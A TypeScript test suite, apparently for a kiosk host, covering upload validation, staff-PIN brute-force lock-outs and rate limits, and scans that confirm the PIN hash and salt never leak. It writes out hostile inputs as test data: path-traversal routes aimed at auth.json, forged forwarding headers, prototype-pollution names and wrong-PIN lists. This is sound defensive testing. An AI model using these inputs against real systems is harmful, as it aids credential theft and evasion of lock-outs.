      ['a negative offset', uploadId, '-1', 400, invalid],
      ['an offset that is not a number', uploadId, 'abc', 400, invalid],
      ['a fractional offset', uploadId, '0.5', 400, invalid],
      ['an offset past the start', uploadId, '100', 400, /Chunks must arrive in order/],
    ] as const) {
      expectRefused(await staff.chunk(id, offset, junk(10)), status, message, `chunk: ${what}`);
    }
    expectRefused(
      await staff.request('media:upload-chunk', {
        path: '/api/call/media:upload-chunk?offset=0',
        headers: { 'content-type': 'application/octet-stream' },
        body: junk(10),
      }),
      400,
      invalid,
      'chunk: no uploadId parameter',
    );
    for (const [what, body, status] of [
      ['no body', undefined, 400],
      ['an unknown id', { uploadId: randomBytes(16).toString('hex') }, 404],
      ['a path', { uploadId: '../media/index.json' }, 404],
      ['two ids', { uploadId: [uploadId, uploadId] }, 400],
    ] as const) {
      const reply = await staff.call('media:upload-finish', body);
      expect(reply.status, `finish: ${what}: ${reply.text}`).toBe(status);
      expect(errorOf(reply).message).not.toBe('');
    }
    await release(staff, uploadId);
    expectRefused(
      await staff.call('media:upload-finish', { uploadId }),
      404,
      notInProgress,
      'finish twice',
    );
    expectRefused(await staff.chunk(uploadId, 300, junk(1)), 404, notInProgress, 'chunk after');

    // Many at once: the host keeps a few uploads in progress and says so for the rest.
    const started = await Promise.all(
      Array.from({ length: DEFAULT_LIMITS.maxUploads + 2 }, (_, i) =>
        staff.call('media:upload-begin', { name: `at-once-${i}.png`, size: 300 }),
      ),
    );
    const ids = started
      .filter((reply) => reply.status === 200)
      .map((reply) => (reply.json as { uploadId: string }).uploadId);
    expect(ids).toHaveLength(DEFAULT_LIMITS.maxUploads);
    for (const reply of started.filter((r) => r.status !== 200)) {
      expectRefused(reply, 409, /uploads are already in progress/, 'one upload too many');
    }
    await Promise.all(ids.map((id) => release(staff, id)));
    await expectNoTrace(before, 'malformed upload requests');
  });

  it('still takes valid uploads afterwards, and nothing was written outside the data folder', async () => {
    const before = await snap();
    const files: [string, Buffer, string][] = [
      ['lobby.png', makePng(32, 24, 600), 'image/png'],
      ['canvas.jpg', fixture('canvas.jpg'), 'image/jpeg'],
      ['canvas.webp', fixture('canvas.webp'), 'image/webp'],
      ['recorded.mp4', fixture('recorded.mp4'), 'video/mp4'],
      ['recorded.webm', fixture('recorded.webm'), 'video/webm'],
      ['captions.vtt', makeVtt('Bienvenue en Belgique'), 'text/vtt'],
    ];
    const stored: string[] = [];
    for (const [name, bytes, mime] of files) {
      const { reply } = await upload(staff, name, bytes);
      expect(reply.status, `${name}: ${reply.text}`).toBe(200);
      expect(reply.json).toMatchObject({ name, mime, size: bytes.length });
      const file = fileOf(reply);
      expect(file.startsWith(`${sha256Of(bytes)}.`)).toBe(true);
      const served = await send(staff.url, { method: 'GET', path: `/media/${file}` });
      expect(served.status).toBe(200);
      expect(served.headers['content-type']).toContain(mime);
      stored.push(file);
    }
    await expectOnlyNewMedia(before, stored, 'valid uploads');
    const admin = await staff.call('admin:get');
    expect((admin.json as AdminState).media.map((item) => item.name)).toEqual(
      expect.arrayContaining(files.map(([name]) => name)),
    );

    // Over the whole run: the sandbox around the data folder is as it was, no part file is left,
    // and the top of the data folder holds only the host's own files.
    const end = await snap();
    expect(end.outside).toEqual(first.outside);
    const inUploads = Object.keys(end.data).filter((rel) => rel.startsWith('uploads/'));
    expect(inUploads).toEqual(['uploads/']);
    const topLevel = (snap: Snapshot) =>
      Object.keys(snap.data).filter((rel) => !rel.slice(0, -1).includes('/'));
    expect(topLevel(end)).toEqual(topLevel(first));
    expect(host!.alive(), host!.output()).toBe(true);
  });
});

// =============================================================================================

/** `auth.json` as the host writes it. */
interface StoredAuth {
  schemaVersion: number;
  pin: { algorithm: string; N: number; r: number; p: number; salt: string; hash: string } | null;
  lockout: { failures: number; lockouts: number; lockedUntil: number | null };
}

/** Wrong PINs (none is `PIN`). */
const WRONG = [
  '000000',
  '111111',
  '123456',
  '654321',
  '999999',
  '246802',
  '1234',
  '13579',
  '97531',
  '0000',
  '222222',
  '135791',
];

/** PIN calls the host allows per minute from one address (security-hooks.ts). */
const PIN_CALLS_PER_MINUTE = 20;

/** Forwarding headers a client might forge to look like many addresses. */
function forged(i: number): Record<string, string> {
  const ip = `203.0.113.${(i % 250) + 1}`;
  const sets: Record<string, string>[] = [
    { 'x-forwarded-for': ip },
    { 'x-forwarded-for': `${ip}, 198.51.100.7` },
    { 'x-real-ip': ip },
    { forwarded: `for=${ip};proto=https` },
    { 'true-client-ip': ip, 'cf-connecting-ip': ip },
    { 'x-client-ip': ip, 'x-cluster-client-ip': ip },
    { 'x-forwarded-for': `::ffff:${ip}`, 'x-forwarded-host': 'evil.example' },
    { 'x-originating-ip': ip, via: '1.1 proxy', 'fastly-client-ip': ip },
  ];
  return sets[i % sets.length]!;
}

type LockKind = 'lock-out' | 'rate limit';

/**
 * A refused PIN try: 429, no session, and a message that says locked and for how long (which
 * `details.retryAfterSec` repeats); the host's lock-out, or the per-address rate limit.
 */
function lockKind(reply: Reply, what: string, maxSec: number): LockKind {
  expect(reply.status, `${what}: ${reply.text}`).toBe(429);
  expect(sessionSetBy(reply), `${what}: a session cookie`).toBeUndefined();
  const error = errorOf(reply);
  expect(error.code, what).toBe('locked-out');
  const seconds = Number(/ Try again in (\d+) seconds\.$/.exec(error.message)?.[1]);
  expect(seconds, `${what}: ${error.message}`).toBeGreaterThan(0);
  expect(seconds, `${what}: ${error.message}`).toBeLessThanOrEqual(maxSec);
  expect(error.details?.retryAfterSec, what).toBe(seconds);
  expect(reply.headers['retry-after'], what).toBe(String(seconds));
  if (error.message.startsWith('Too many wrong PINs. ')) {
    expect(typeof error.details?.lockedUntil, what).toBe('number');
    return 'lock-out';
  }
  expect(error.message, what).toMatch(/^Too many PIN tries from this address\. /);
  return 'rate limit';
}

function count<T>(items: readonly T[], item: T): number {
  return items.filter((x) => x === item).length;
}

/** Open the event stream, run `trigger` once it is connected, and resolve with the first event. */
function firstEvent(base: string, trigger: () => Promise<void>): Promise<Reply> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    let text = '';
    let triggered = false;
    let settled = false;
    const settle = (error: Error | undefined, reply?: Reply) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      req.destroy();
      if (error) reject(error);
      else resolve(reply!);
    };
    const timer = setTimeout(() => settle(new Error(`no event within 10 s: ${text}`)), 10_000);
    const req = http.get({ hostname, port, path: '/api/events', agent: false }, (response) => {
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => {
        text += chunk;
        if (!triggered && text.includes(': connected\n\n')) {
          triggered = true;
          trigger().catch((error: Error) => settle(error));
        }
        if (/\nevent: [^\n]+\ndata: [^\n]*\n\n/.test(text)) {
          settle(undefined, {
            status: response.statusCode ?? 0,
            headers: response.headers,
            text,
            json: undefined,
          });
        }
      });
    });
    req.on('error', (error) => settle(error));
  });
}

async function filesUnder(root: string): Promise<string[]> {
  const found = await tree(root).catch(() => ({}));
  return Object.keys(found)
    .filter((rel) => !rel.endsWith('/'))
    .map((rel) => path.join(root, rel));
}

describe('the staff PIN against brute force over HTTP', () => {
  let sandbox = '';
  let dataDir = '';
  let authFile = '';
  let host: HostProcess | undefined;
  /** Signed in with the right PIN once the lock-outs are over. */
  let staff: Client | undefined;

  const readAuth = async () => JSON.parse(await readFile(authFile, 'utf8')) as StoredAuth;
  /** Replace auth.json as the host does (a new file renamed over it), owner-only. */
  const writeAuth = async (text: string) => {
    const temp = `${authFile}.test-${process.pid}`;
    await writeFile(temp, text, { mode: 0o600 });
    await rename(temp, authFile);
  };
  /**
   * Stand in for the lock-out's wait running out (30 s, then 60 s): move its end into the past,
   * keeping the count of lock-outs, as the host would find it once the time has passed.
   */
  const endLockOut = async () => {
    const stored = await readAuth();
    expect(stored.lockout.lockedUntil).not.toBeNull();
    stored.lockout.lockedUntil = Date.now() - 1000;
    await writeAuth(`${JSON.stringify(stored, null, 2)}\n`);
  };

  beforeAll(async () => {
    requireBuiltHost();
    sandbox = await mkdtemp(path.join(os.tmpdir(), 'kiosk-fault-pin-'));
    dataDir = path.join(sandbox, 'data');
    authFile = path.join(dataDir, 'auth.json');
    await mkdir(dataDir);
    host = await startServe(dataDir);
    transcript = [];
  });

  afterAll(async () => {
    if (host) await killHost(host);
    if (sandbox) await rm(sandbox, { recursive: true, force: true });
  });

  it('holds the lock-out against wrong PINs in a row, at once, from many addresses, through a restart', async () => {
    // The PIN is set at the kiosk itself (loopback); its file is for the owner only.
    const kiosk = new Client(host!.url);
    const created = await kiosk.call('auth:create-pin', { pin: PIN });
    expect(created.status, created.text).toBe(200);
    const session = kiosk.cookie!;
    expect(session).toBeDefined();
    const pinRecord = (await readAuth()).pin!;
    expect(pinRecord).toMatchObject({ algorithm: 'scrypt' });
    expect((await stat(authFile)).mode & 0o777).toBe(0o600);
    expectRefused(
      await kiosk.call('auth:create-pin', { pin: '2468' }),
      403,
      /^A staff PIN is already set\.$/,
      'creating a second PIN',
    );
    let pinCalls = 2; // from 127.0.0.1, this minute

    // 1. One by one: four wrong PINs count down, the fifth locks out for 30 s.
    const attacker = new Client(host!.url);
    for (let i = 0; i < 4; i++) {
      const reply = await attacker.call('auth:unlock', { pin: WRONG[i] });
      pinCalls++;
      expect(reply.status, reply.text).toBe(401);
      expect(errorOf(reply)).toMatchObject({
        code: 'wrong-pin',
        message: 'That PIN is not right.',
        details: { attemptsLeft: 4 - i },
      });
      expect(sessionSetBy(reply)).toBeUndefined();
    }
    const fifth = await attacker.call('auth:unlock', { pin: WRONG[4] });
    pinCalls++;
    expect(lockKind(fifth, 'the fifth wrong PIN', 30)).toBe('lock-out');
    const lockedUntil = errorOf(fifth).details!.lockedUntil as number;
    expect(lockedUntil - Date.now()).toBeGreaterThan(25_000);
    expect(lockedUntil - Date.now()).toBeLessThanOrEqual(30_000);
    expect((await readAuth()).lockout).toEqual({ failures: 0, lockouts: 1, lockedUntil });

    // Even the right PIN is refused now, and so is every further try, one by one.
    for (const [i, pin] of [PIN, WRONG[5]!, PIN, WRONG[6]!].entries()) {
      const reply = await attacker.call('auth:unlock', { pin });
      pinCalls++;
      expect(lockKind(reply, `try ${i + 1} during the lock-out`, 30)).toBe('lock-out');
      expect(errorOf(reply).details?.lockedUntil).toBe(lockedUntil);
    }
    expect((await attacker.call('auth:status')).json).toEqual({
      pinSet: true,
      unlocked: false,
      lockedUntil,
      attemptsLeft: 0,
      canCreatePin: false,
    });
    // A live session cannot change the PIN during the lock-out either (the current PIN is a try).
    const thief = new Client(host!.url);
    thief.cookie = session;
    const change = await thief.call('auth:change-pin', { currentPin: PIN, newPin: '24680' });
    pinCalls++;
    expect(lockKind(change, 'changing the PIN during the lock-out', 30)).toBe('lock-out');

    // 2. All at once from the same client, each with forged forwarding headers: the rate limit
    //    counts the connection's address, not what the headers claim.
    const burst = await Promise.all(
      Array.from({ length: 40 }, (_, i) =>
        attacker.call(
          'auth:unlock',
          { pin: i % 4 === 0 ? PIN : WRONG[i % WRONG.length] },
          forged(i),
        ),
      ),
    );
    const kinds = burst.map((reply, i) => lockKind(reply, `burst try ${i}`, 60));
    const passed = PIN_CALLS_PER_MINUTE - pinCalls;
    expect(count(kinds, 'lock-out'), 'tries that reached the PIN check').toBe(passed);
    expect(count(kinds, 'rate limit'), 'tries the rate limit stopped').toBe(40 - passed);
    for (const reply of burst.filter((r) => lockKind(r, 'burst', 60) === 'lock-out')) {
      expect(errorOf(reply).details?.lockedUntil).toBe(lockedUntil);
    }

    // Other spellings of the route: refused (by the rate limit, or as no route), never a session.
    for (const route of [
      '/api/call/auth%3Aunlock',
      '/api/call/auth%3aunlock',
      '/api/call/auth:unlock?pin=135790',
      '/api/call/auth:unlock#x',
      '//api/call/auth:unlock',
      '/api//call/auth:unlock',
      '/api/call/auth:unlock/',
      '/%61pi/call/auth:unlock',
      '/api/call/./auth:unlock',
      '/api/call/x/../auth:unlock',
      '/API/call/auth:unlock',
    ]) {
      const reply = await attacker.request(`unlock at ${route}`, {
        path: route,
        headers: { 'content-type': 'application/json', ...forged(7) },
        body: JSON.stringify({ pin: PIN }),
      });
      expect(reply.status, `${route}: ${reply.text}`).toBeGreaterThanOrEqual(400);
      expect(reply.status, `${route}: ${reply.text}`).toBeLessThan(500);
      expect(sessionSetBy(reply), route).toBeUndefined();
      if (reply.status === 429) expect(lockKind(reply, route, 60), route).toBe('rate limit');
    }

    // 3. From many loopback addresses (other machines): each has its own count, so the kiosk's
    //    lock-out neither spreads to them nor is lifted by them (faults/lan-attacks.test.ts tests
    //    the network's budget).
    const spread = await Promise.all(
      Array.from({ length: 8 }, (_, i) =>
        new Client(host!.url, `127.0.0.${i + 2}`).call('auth:unlock', { pin: WRONG[7] }),
      ),
    );
    for (const reply of spread) {
      expect(reply.status, reply.text).toBe(401);
      expect(errorOf(reply).details?.attemptsLeft).toBe(4);
    }
    expect((await attacker.call('auth:status')).json).toMatchObject({ lockedUntil });
    const during = await readAuth();
    expect(during.pin).toEqual(pinRecord);
    expect(during.lockout).toEqual({ failures: 0, lockouts: 1, lockedUntil });

    // 4. Killed and started again on the same data folder: still locked out, until the same
    //    moment; the old session is gone.
    await killHost(host!);
    host = await startServe(dataDir);
    const after = new Client(host.url);
    expect((await after.call('auth:status')).json).toEqual({
      pinSet: true,
      unlocked: false,
      lockedUntil,
      attemptsLeft: 0,
      canCreatePin: false,
    });
    const restarted = await after.call('auth:unlock', { pin: PIN });
    expect(lockKind(restarted, 'the right PIN after a restart', 30)).toBe('lock-out');
    expect(errorOf(restarted).details?.lockedUntil).toBe(lockedUntil);
    const stale = new Client(host.url);
    stale.cookie = session;
    expectRefused(
      await stale.call('admin:get'),
      401,
      /^Staff access is locked\./,
      'the session from before the restart',
    );

    // 5. Once the lock-out is over, wrong PINs from twelve other addresses leave the kiosk's
    //    count alone; wrong PINs all at once from the kiosk: the host checks them one at a time,
    //    so exactly four are told "wrong" and the fifth starts a second lock-out, twice as long.
    await endLockOut();
    const elsewhere = await Promise.all(
      WRONG.map((pin, i) => new Client(host!.url, `127.0.1.${i + 1}`).call('auth:unlock', { pin })),
    );
    for (const reply of elsewhere) expect(errorOf(reply).details?.attemptsLeft).toBe(4);
    expect((await after.call('auth:status')).json).toMatchObject({
      lockedUntil: null,
      attemptsLeft: 5,
    });
    const wave = await Promise.all(WRONG.map((pin) => after.call('auth:unlock', { pin })));
    const wrong = wave.filter((reply) => reply.status === 401);
    expect(wrong.map((reply) => errorOf(reply).details?.attemptsLeft).sort()).toEqual([1, 2, 3, 4]);
    for (const reply of wrong) expect(errorOf(reply).code).toBe('wrong-pin');
    const lockedAgain = wave.filter((reply) => reply.status !== 401);
    expect(lockedAgain).toHaveLength(WRONG.length - 4);
    for (const reply of lockedAgain) {
      expect(lockKind(reply, 'a concurrent wrong PIN', 60)).toBe('lock-out');
    }
    const second = (await readAuth()).lockout;
    expect(second).toMatchObject({ failures: 0, lockouts: 2 });
    expect(second.lockedUntil! - Date.now()).toBeGreaterThan(55_000);
    const stillLocked = await after.call('auth:unlock', { pin: PIN });
    expect(lockKind(stillLocked, 'the right PIN in the second lock-out', 60)).toBe('lock-out');
    expect(errorOf(stillLocked).details?.lockedUntil).toBe(second.lockedUntil);

    // 6. Once that one is over too, the PIN that was refused all along unlocks, and the count
    //    of wrong tries starts again.
    await endLockOut();
    const kioskAgain = await after.call('auth:unlock', { pin: PIN });
    expect(kioskAgain.status, kioskAgain.text).toBe(200);
    expect((await readAuth()).lockout).toEqual({ failures: 0, lockouts: 0, lockedUntil: null });
    staff = new Client(host.url, '127.0.0.11');
    const unlocked = await staff.call('auth:unlock', { pin: PIN });
    expect(unlocked.status, unlocked.text).toBe(200);
    expect(unlocked.json).toMatchObject({ unlocked: true });
    expect(staff.cookie).toBeDefined();
    expect((await staff.call('admin:get')).status).toBe(200);
    expect(host.alive(), host.output()).toBe(true);
  });

  it('never sends the PIN hash or salt: data calls signed in and out, errors, events, bundles', async () => {
    expect(staff, 'signed in by the test before').toBeDefined();
    const authText = await readFile(authFile, 'utf8');
    const stored = JSON.parse(authText) as StoredAuth;
    const { salt, hash } = stored.pin!;
    const url = host!.url;
    const anon = new Client(url, '127.0.0.30');
    const signedIn = new Client(url, '127.0.0.31');
    signedIn.cookie = staff!.cookie;
    let admin = (await signedIn.call('admin:get')).json as AdminState;
    expect(admin.revision).toBeTruthy();

    // The event stream's first message, pushed by a staff save.
    const event = await firstEvent(url, async () => {
      const { idleTimeoutSec } = admin.settings;
      const saved = await signedIn.call('settings:save', {
        baseRevision: admin.revision,
        settings: { ...admin.settings, idleTimeoutSec: idleTimeoutSec === 90 ? 91 : 90 },
      });
      expect(saved.status, saved.text).toBe(200);
    });
    expect(event.text).toMatch(/^: connected\n\nevent: content:changed\ndata: \{/);
    transcript.push({ label: 'GET /api/events', reply: event });
    admin = (await signedIn.call('admin:get')).json as AdminState;

    const today = new Date().toISOString().slice(0, 10);
    for (const client of [anon, signedIn]) {
      for (const route of [
        '/',
        '/index.html',
        '/#/admin',
        '/api/health',
        '/api/content',
        '/api/nope',
        '/auth.json',
        '/media/auth.json',
        '/media/..%2fauth.json',
        '/media/../auth.json',
        '/media/%2e%2e/auth.json',
        '/builtin/../../auth.json',
        '/builtin/art/..%2f..%2f..%2fauth.json',
        `/media/${'0'.repeat(64)}.png`,
      ]) {
        await client.get(route);
      }
      // Every call in the contract with no input (most refuse that), and names that are not calls.
      for (const name of [
        ...callNames.filter((name) => name !== 'auth:lock'),
        'auth:hash',
        'auth:get',
        '__proto__',
        'constructor',
      ]) {
        await client.call(name);
      }
      await client.call('analytics:get', { from: today, to: today });
      await client.call('analytics:export', { from: today, to: today });
      await client.call('auth:unlock', { pin: 'not a pin' });
      await client.call('auth:create-pin', { pin: PIN });
      await client.call('auth:change-pin', { currentPin: 'x', newPin: 'y' });
      await client.request('auth:unlock, broken JSON', {
        path: '/api/call/auth:unlock',
        headers: { 'content-type': 'application/json' },
        body: '{"pin": ',
      });
      await client.call('media:upload-begin', { name: 'auth.json', size: 0 });
      // The PIN file offered as a key, in a save that fails.
      await client.call('settings:save', {
        baseRevision: admin.revision,
        settings: { ...admin.settings, syncPublicKey: authText },
      });
      await client.call('content:save', { baseRevision: admin.revision, content: { nope: 1 } });
    }
    const wrong = await anon.call('auth:unlock', { pin: WRONG[0] });
    expect(wrong.status).toBe(401);
    expect((await signedIn.call('admin:get')).status).toBe(200);
    expect((await anon.call('admin:get')).status).toBe(401);

    // Exports: a published bundle, and a publish told to sign with the PIN file as its key.
    const waitForPublish = async () => {
      let status: FleetStatus | undefined;
      await expect
        .poll(
          async () => {
            status = (await signedIn.call('fleet:status')).json as FleetStatus;
            return status.publish.state;
          },
          { timeout: 10_000 },
        )
        .not.toBe('running');
      return status!.publish;
    };
    const published = path.join(dataDir, 'published');
    const bundle = path.join(published, 'bundle');
    const publish = (input: object) => signedIn.call('fleet:publish', { pin: PIN, ...input });
    expect((await publish({ outDir: 'bundle' })).status).toBe(200);
    expect(await waitForPublish()).toMatchObject({ state: 'done' });
    // The PIN file itself is outside the keys folder: refused before it is read.
    expect((await publish({ outDir: 'bundle-signed', keyFile: authFile })).status).toBe(403);
    // A copy of it in the keys folder is read, and refused as a key without being quoted.
    const keyCopy = path.join(dataDir, 'keys', 'pin-file.key');
    await mkdir(path.dirname(keyCopy), { recursive: true });
    await writeFile(keyCopy, authText);
    expect((await publish({ outDir: 'bundle-signed', keyFile: 'pin-file.key' })).status).toBe(200);
    const keyed = await waitForPublish();
    expect(keyed.state).toBe('failed');
    expect(keyed.error).toBe(`${keyCopy} is not a private key in PEM form.`);

    // Lock, signed in and out.
    expect((await signedIn.call('auth:lock')).status).toBe(200);
    expect((await anon.call('auth:lock')).status).toBe(200);
    expect((await signedIn.call('admin:get')).status).toBe(401);

    // A damaged PIN file: what the host says about it must not quote it.
    const damaged: [string, string][] = [
      ['cut short in the hash', authText.slice(0, authText.indexOf(hash) + (hash.length >> 1))],
      ['a hash that is not base64', authText.replace(hash, `${hash.slice(0, 8)}!${hash.slice(8)}`)],
      ['a salt that is not base64', authText.replace(salt, `${salt.slice(0, 8)} ${salt.slice(8)}`)],
      ['a cost that is not a power of two', authText.replace(/"N": \d+/, '"N": 1000')],
      ['another algorithm', authText.replace('"scrypt"', '"bcrypt"')],
      ['the hash as a number', authText.replace(`"${hash}"`, '42')],
      ['not JSON at all', `salt=${salt}\nhash=${hash}\n`],
    ];
    for (const [what, text] of damaged) {
      await writeAuth(text);
      const health = await anon.get('/api/health');
      const problems = (health.json as { problems: { source: string }[] }).problems;
      expect(
        problems.some((problem) => problem.source === 'auth.json'),
        `${what}: health names the damaged file`,
      ).toBe(true);
      await anon.call('auth:status');
      await anon.call('health:get');
      const tried = await anon.call('auth:unlock', { pin: PIN });
      expect(tried.status, `${what}: ${tried.text}`).toBe(500);
      expect(errorOf(tried).message).toMatch(/^The PIN file is damaged/);
      await signedIn.call('admin:get');
    }
    await writeAuth(authText);

    // Every reply of this host, from the first wrong PIN on, headers and bodies.
    const secrets: [string, string][] = [
      ['the salt', salt],
      ['the hash', hash],
      ['the salt in hex', Buffer.from(salt, 'base64').toString('hex')],
      ['the hash in hex', Buffer.from(hash, 'base64').toString('hex')],
      ['the salt in base64url', Buffer.from(salt, 'base64').toString('base64url')],
      ['the hash in base64url', Buffer.from(hash, 'base64').toString('base64url')],
    ];
    const formats = [/scrypt/i, /"salt"\s*:/i, /"hash"\s*:/i, /"algorithm"\s*:/i];
    expect(transcript.length).toBeGreaterThan(200);
    const statuses = new Set(transcript.map(({ reply }) => reply.status));
    expect([...statuses].sort()).toEqual(
      expect.arrayContaining([200, 400, 401, 403, 404, 429, 500]),
    );
    const leaks: string[] = [];
    const check = (where: string, text: string) => {
      for (const [what, secret] of secrets)
        if (text.includes(secret)) leaks.push(`${where}: ${what}`);
      for (const format of formats) if (format.test(text)) leaks.push(`${where}: ${format}`);
    };
    // The scan finds what it looks for: the file itself trips every check.
    check('auth.json', authText);
    expect(leaks).toEqual(
      expect.arrayContaining([
        'auth.json: the salt',
        'auth.json: the hash',
        ...formats.map((format) => `auth.json: ${format}`),
      ]),
    );
    leaks.length = 0;
    for (const { label, reply } of transcript) {
      check(`${label} (${reply.status})`, `${JSON.stringify(reply.headers)}\n${reply.text}`);
    }
    // The bundle, the publish folder that failed, and the host's own log.
    for (const file of [
      ...(await filesUnder(bundle)),
      ...(await filesUnder(path.join(published, 'bundle-signed'))),
      ...(await filesUnder(path.join(dataDir, 'logs'))),
    ]) {
      check(path.relative(sandbox, file), await readFile(file, 'latin1'));
    }
    expect(leaks).toEqual([]);
    console.log(`http-attacks: ${transcript.length} replies scanned for the PIN hash and salt`);
  });
});
